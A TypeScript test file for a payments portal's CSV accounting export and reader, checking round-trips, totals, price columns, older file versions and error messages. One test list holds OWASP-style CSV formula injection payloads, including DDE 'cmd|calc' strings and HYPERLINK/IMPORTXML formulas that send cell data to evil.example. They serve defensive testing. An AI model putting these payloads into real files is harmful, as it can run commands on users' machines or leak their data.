import { parse as parseCsv } from 'csv-parse/sync'
import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { csvLine, marked } from '#domain/shared/csvCells.ts'
import { anyAccountingFile, olderText, row } from '#tests/support/accountingFiles.ts'
import { propertyRuns } from '#tests/support/propertyRuns.ts'
import { SAFE } from '#tests/support/safeExamples.ts'
import { type AccountingFile, rowTitles } from './AccountingFile.ts'
import { accountingTotals } from './accountingRows.ts'
import { readAccounting } from './readAccounting.ts'
import { accountingFileName, accountingTable, accountingText } from './writeAccounting.ts'

const file = (some: Partial<AccountingFile>): AccountingFile => ({
  account: SAFE,
  writtenAt: 1_795_165_200_000,
  partial: [],
  notes: [],
  rows: [],
  ...some,
})

/** The cells of a text as read by two programs independent of this portal. */
const readers = {
  papaparse: (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data,
  'csv-parse': (text: string) => parseCsv(text, { bom: true }) as string[][],
}

/**
 * Whether a spreadsheet would execute the cell, by OWASP's rule and without the portal's code: `T-11` of the
 * threat list.
 */
function isRun(cell: string): boolean {
  const first = cell.replace(/^["\s\u200b\ufeff]+/, '').normalize('NFKC')[0] ?? ''
  return '=+-@|%'.includes(first || ' ') || /^[\t\r\n\0]/.test(cell)
}

/** To bytes and back, as if the file were saved and opened. */
const saved = (text: string) =>
  new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(new TextEncoder().encode(text))

/** A file as it is read back: its notes are on the page alone, and what may be missing is one line of text. */
const inFile = (written: AccountingFile): AccountingFile => ({
  ...written,
  partial: written.partial.length > 0 ? [written.partial.join(' ')] : [],
  notes: [],
})

test('behavior: a written file is read back exactly', async () => {
  await fc.assert(
    fc.asyncProperty(anyAccountingFile, async (written) => {
      expect(await readAccounting(saved(accountingText(written)))).toEqual({
        ok: true,
        file: inFile(written),
      })
    }),
    propertyRuns(125, 20_000),
  )
})

test('behavior: no program can run a cell as a formula', () => {
  fc.assert(
    fc.property(anyAccountingFile, (written) => {
      const text = accountingText(written)
      for (const read of Object.values(readers)) {
        const cells = read(text)
        expect(cells.length).toBe(1 + Math.max(1, written.rows.length))
        expect(cells.flat().filter(isRun)).toEqual([])
      }
    }),
    propertyRuns(125, 20_000),
  )
})

test('behavior: totals equal an independent sum for each token, direction and status', () => {
  const keyOf = (part: Pick<AccountingFile['rows'][number], 'token' | 'direction' | 'status'>) =>
    `${part.token.address} ${part.token.symbol} ${part.token.decimals} ${part.direction} ${part.status}`
  fc.assert(
    fc.property(anyAccountingFile, ({ rows }) => {
      const totals = accountingTotals(rows)
      const expected = new Map<string, bigint>()
      for (const each of rows) expected.set(keyOf(each), 0n)
      for (const each of rows) expected.set(keyOf(each), (expected.get(keyOf(each)) ?? 0n) + each.value)
      expect(new Map(totals.map((total) => [keyOf(total), total.value]))).toEqual(expected)
      expect(totals.reduce((sum, { count }) => sum + count, 0)).toBe(rows.length)
    }),
    propertyRuns(63, 10_000),
  )
})

// https://owasp.org/www-community/attacks/CSV_Injection and commonly shared payloads.
test.each([
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '|calc',
  "%0A-3+3+cmd|' /C calc'!D2",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '"=1+1',
  "'=1+1",
  "''=1+1",
  '\u00a0\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '｜calc',
  '％0A',
  '⁺1',
  '⩵1',
  '−1',
  '“=1+1”',
])('behavior: %j cannot run as a memo, and is read back unchanged', async (memo) => {
  const text = accountingText(file({ rows: [row({ memo })] }))
  for (const read of Object.values(readers)) expect(read(text).flat()).toContain(`'${memo}`)
  expect(await readAccounting(text)).toMatchObject({ ok: true, file: { rows: [{ memo }] } })
})

test.each(["it's", "'quoted'", '"quoted"', 'a=b', '","=1+1', '1-1', '0x12', ''])(
  'behavior: %j is not a formula and gets no mark',
  async (memo) => {
    const text = accountingText(file({ rows: [row({ memo })] }))
    for (const read of Object.values(readers)) expect(read(text).flat()).toContain(memo)
    expect(await readAccounting(text)).toMatchObject({ ok: true, file: { rows: [{ memo }] } })
  },
)

test('behavior: an amount keeps all its decimals, without grouping', () => {
  const text = accountingText(file({ rows: [row({ value: 123_456_789_000_000_000_000_000_001n })] }))
  expect(text).toContain('"123456789.000000000000000001"')
})

test('behavior: a file begins with its titles, has a byte order mark, quotes every cell and uses CSV line ends', () => {
  const text = accountingText(
    file({
      notes: ['2 suspicious transfers are not in this file.'],
      partial: ['Early.'],
      rows: [row({}), row({})],
    }),
  )
  expect(text.startsWith('\ufeff"Date (UTC)","Transaction hash"')).toBe(true)
  expect(text.endsWith('"\r\n')).toBe(true)
  expect(text.replace(/"[^"]*"/g, 'x').replaceAll('\ufeff', '')).toMatch(/^(x(,x){29}\r\n){3}$/)
  expect(text).not.toContain('suspicious')
})

test('behavior: a file without payments says what it is all the same', async () => {
  const empty = file({ partial: ['Nothing was read.'] })
  expect(await readAccounting(accountingText(empty))).toEqual({ ok: true, file: empty })
})

test('behavior: a fee stands beside the first payment of its transaction, with its worth', () => {
  const price = { value: 61_240_000_000n, at: Date.UTC(2026, 10, 18, 12), round: 55n }
  const text = accountingText(
    file({ rows: [row({ campaign: '#autumn', fee: { value: 10n ** 14n, price } })] }),
  )
  expect(text).toContain(
    '"#autumn","0.0001","0.06","612.4","2026-11-18T12:00:00.000Z","Chainlink BNB / USD 0x',
  )
})

describe('a partial file', () => {
  const partial = file({ partial: ['Only since block 5.', 'The service has more.'], rows: [row({})] })

  test('behavior: says so beside its first payment', () => {
    expect(accountingText(partial)).toContain('"Only since block 5. The service has more."')
  })

  test('behavior: says so in its name', () => {
    expect(accountingFileName(partial)).toBe(`portal-${SAFE.toLowerCase()}-2026-11-20-partial.csv`)
    expect(accountingFileName(file({}))).toBe(`portal-${SAFE.toLowerCase()}-2026-11-20.csv`)
  })
})

describe('prices in a file', () => {
  const price = { value: 99_950_000n, at: Date.UTC(2026, 10, 18, 12), round: 55340232221128654850n }
  const text = accountingText(file({ rows: [row({ value: 250n * 10n ** 18n, price })] }))

  test('behavior: stand behind the status, with worth, time and source', () => {
    expect(text).toContain(
      '"Received","249.88","0.9995","2026-11-18T12:00:00.000Z","Chainlink USDT / USD 0xB97Ad0E74fa7d920791E90258A6E2085088b4320, round 55340232221128654850","",',
    )
  })

  test('behavior: are empty where there was none', () => {
    expect(accountingText(file({ rows: [row({})] }))).toContain('"Received","","","","","",')
  })

  test.each([
    ['another worth', '"249.88"', '"249.89"', 'not what the amount and its price give'],
    ['no worth', '"249.88"', '""', 'not what the amount and its price give'],
    ['another feed', '0xB97A', '0xB97B', 'not what the amount and its price give'],
    ['another pair', 'USDT / USD', 'USDC / USD', 'not what the amount and its price give'],
    ['another price', '"0.9995"', '"0.9994"', 'not what the amount and its price give'],
    ['a price of zero', '"0.9995"', '"0"', 'USD price is zero'],
    ['a price in words', '"0.9995"', '"about 1"', 'USD price is not a plain'],
    ['a price with nine decimals', '"0.9995"', '"0.999500001"', 'USD price has more decimals'],
    ['another time format', '"2026-11-18T12:00:00.000Z"', '"18.11.2026"', 'USD price time is not a time'],
    ['no time', '"2026-11-18T12:00:00.000Z"', '""', 'no time'],
    ['no round', ', round 55340232221128654850', '', 'no round'],
  ])('error: refuses %s', async (_, from, to, reason) => {
    expect(text).toContain(from)
    const read = await readAccounting(text.replace(from, to))
    expect(read).toMatchObject({
      ok: false,
      faults: [{ line: 2, reason: expect.stringContaining(reason) }],
    })
  })
})

describe('files of older versions', () => {
  test('behavior: are read back exactly, without what they did not have', async () => {
    await fc.assert(
      fc.asyncProperty(anyAccountingFile, fc.constantFrom<1 | 2>(1, 2), async (written, version) => {
        const rows = written.rows.map((each) => ({
          ...each,
          campaign: '',
          fee: null,
          safeTxHash: null,
          ...(version === 1 && { price: null }),
        }))
        const read = await readAccounting(saved(olderText({ ...written, rows }, version)))
        expect(read).toEqual({ ok: true, file: { ...written, rows } })
      }),
      propertyRuns(38, 6_000),
    )
  })

  test.each([
    ['Network fee (BNB)', { fee: null, safeTxHash: null }],
    ['Safe transaction hash', { safeTxHash: null }],
    ['Row', {}],
  ] as const)(
    'behavior: are read back exactly, with their notes, if their payments end before the column %s',
    async (title, without) => {
      const width = [...rowTitles, 'Row'].indexOf(title)
      await fc.assert(
        fc.asyncProperty(anyAccountingFile, async (written) => {
          const rows = written.rows.map((each) => ({ ...each, ...without }))
          const ends = [
            ['Missing', 'Notes'],
            [written.partial.join('\n'), written.notes.join('\n')],
          ]
          const table = accountingTable({ ...written, rows }).map((cells, line) => [
            ...cells.slice(0, width),
            ...cells.slice(rowTitles.length, -1),
            ...(ends[line] ?? ['', '']),
          ])
          const text = table.map((cells) => `${csvLine(cells.map(marked))}\r\n`).join('')
          expect(await readAccounting(saved(text))).toEqual({ ok: true, file: { ...written, rows } })
        }),
        propertyRuns(13, 2_000),
      )
    },
  )

  const text = olderText(file({ rows: [row({ memo: 'two\r\nlines' }), row({}), row({})] }), 2)
  const lines = text.split('\r\n')
  test.each([
    ['a newer file', text.replace('"version 2"', '"version 3"'), 1, 'newer portal'],
    ['a file of version 1 with prices', text.replace('"version 2"', '"version 1"'), 1, 'Cells are missing'],
    ['an unknown line', text.replace('# Marking', '# Other'), 4, 'doesn’t belong here'],
    ['a changed title', text.replace('"Amount"', '"Sum"'), 5, 'doesn’t belong here'],
    ['another date', text.replace('2026-11-20T09:00:00.000Z', '20.11.2026'), 3, 'Written is not a time'],
    [
      'a missing line',
      lines.filter((_, at) => at !== 7).join('\r\n'),
      9,
      'says that it has 3 payments, and 2',
    ],
    ['a line too many', `${text}${lines[8]}\r\n`, 11, 'behind the end'],
    ['a file that was cut off', lines.slice(0, 8).join('\r\n'), 9, 'ends too early'],
  ])('error: refuses %s, with line and reason', async (_, damaged, line, reason) => {
    const read = await readAccounting(damaged)
    expect(read.ok ? null : read.faults[0]).toEqual({ line, reason: expect.stringContaining(reason) })
  })
})

describe('reading a file', () => {
  const text = accountingText(file({ rows: [row({ memo: 'two\r\nlines' }), row({}), row({})] }))
  const lines = text.split('\r\n')
  const changed = (from: string | RegExp, to: string) => text.replace(from, to)

  test('behavior: accepts a lost byte order mark, and line ends changed by copying', async () => {
    const copied = text.slice(1).replaceAll('\r\n', '\n')
    const read = await readAccounting(copied)
    expect(read).toMatchObject({ ok: true, file: { rows: [{ memo: 'two\nlines' }, {}, {}] } })
  })

  test.each([
    ['nothing', '', 1, 'not an accounting file'],
    ['another program’s file', 'date,amount\r\n2026,1\r\n', 1, 'not an accounting file'],
    ['a quoted file of another program', '"date","amount"\r\n', 1, 'not an accounting file'],
    ['a page', '<!doctype html>', 1, 'not an accounting file'],
    ['a file without quotes', text.replaceAll('"', ''), 1, 'not an accounting file'],
    ['a changed title', changed('"Amount"', '"Sum"'), 1, 'not an accounting file'],
    ['an amount with a comma', changed('"0.00000000000000001"', '"0,1"'), 2, 'Amount is not a plain'],
    [
      'an amount in scientific notation',
      changed('"0.00000000000000001"', '"1E-17"'),
      2,
      'Amount is not a plain',
    ],
    ['a negative amount', changed('"0.00000000000000001"', '"\'-1"'), 2, 'Amount is not a plain'],
    ['an unmarked formula', changed('"0.00000000000000001"', '"-1"'), 2, 'not marked'],
    ['too many decimals', changed('"0.00000000000000001"', '"0.1000000000000000001"'), 2, 'more decimals'],
    ['a zero at the end', changed('"0.00000000000000001"', '"0.10"'), 2, 'Amount is not a plain'],
    ['a huge amount', changed('"0.00000000000000001"', `"${'9'.repeat(78)}"`), 2, 'larger than'],
    ['another date', changed('2026-11-20T09:00:00.000Z', '20.11.2026'), 2, 'Written is not a time'],
    ['a changed checksum', changed(/"0x90F79/, '"0x90f79'), 2, 'checksummed'],
    ['another token', changed('"USDT"', '"USDC"'), 2, 'Token is not USDT'],
    ['another number of decimals', changed('"18"', '"6"'), 2, 'Token is not USDT'],
    ['a direction', changed('"in"', '"up"'), 2, 'Direction'],
    ['a hash', changed(/"0x[0-9a-f]{64}"/, '"0x12"'), 2, 'hash'],
    [
      'a rewritten line',
      lines.map((line, at) => (at === 3 ? line.replaceAll('"', '') : line)).join('\r\n'),
      4,
      'saved the file',
    ],
    ['an open quote', changed('"two', 'two'), 2, 'saved the file'],
    ['a missing line', lines.filter((_, at) => at !== 3).join('\r\n'), 4, 'Row 2 is missing'],
    ['a line too many', `${text}${lines[4]}\r\n`, 6, 'behind the end'],
    ['a file that was cut off', lines.slice(0, 4).join('\r\n'), 5, 'ends too early'],
    [
      'rows in another order',
      [...lines.slice(0, 1), lines[3], ...lines.slice(1, 3), ...lines.slice(4)].join('\r\n'),
      2,
      'Row 1 is missing',
    ],
    [
      'a row of another file',
      changed(/(2 of 3",")0x[^"]*/, '$10x90F79bf6EB2c4f870365E785982E1f101E93b906'),
      4,
      'another file',
    ],
    ['a file that was cut off in a line', text.slice(0, -30), 5, 'saved the file'],
  ])('error: refuses %s, with line and reason', async (_, damaged, line, reason) => {
    expect(damaged).not.toBe(text)
    const read = await readAccounting(damaged)
    expect(read.ok).toBe(false)
    if (read.ok) return
    expect(read.faults[0]).toEqual({ line, reason: expect.stringContaining(reason) })
  })

  test('error: names every bad line of a file', async () => {
    const read = await readAccounting(text.replaceAll('"in"', '"up"'))
    expect(read).toMatchObject({ ok: false, faults: [{ line: 2 }, { line: 4 }, { line: 5 }] })
  })

  test('error: a changed character never silently turns a payment into something else', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: text.length - 1 }),
        fc.string({ minLength: 1, maxLength: 2 }),
        async (at, put) => {
          const damaged = text.slice(0, at) + put + text.slice(at + 1)
          const read = await readAccounting(damaged)
          // Every accepted file is exactly what the portal would have written.
          if (read.ok)
            expect(`\ufeff${accountingText(read.file).slice(1)}`).toBe(
              damaged.startsWith('\ufeff') ? damaged : `\ufeff${damaged}`,
            )
        },
      ),
      propertyRuns(125, 20_000),
    )
  })
})
